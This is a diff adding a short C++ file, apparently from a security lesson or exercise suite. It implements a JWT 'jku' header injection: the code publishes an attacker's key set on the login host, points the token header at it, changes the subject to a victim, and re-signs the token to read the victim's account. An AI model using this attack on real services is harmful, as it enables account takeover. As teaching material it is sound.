@@ -1,0 +1,15 @@
+// Believes: whoever knows a path on a host can put a document there.
+#include "jku_header.hpp"
+
+namespace lesson {
+
+Loot attack(const Evidence& evidence) {
+  const auto keys = json::Value::array({evidence.own_key.public_jwk()});
+  auto token = evidence.own_token;
+  token.header.set("jku", evidence.publish("login.example/mallory/jwks.json", {{"keys", keys}}));
+  token.header.set("kid", evidence.own_key.id());
+  token.claims.set("sub", evidence.victim);
+  return {.account = evidence.show_me(sign_rs256(token, evidence.own_key)).body};
+}
+
+}  // namespace lesson
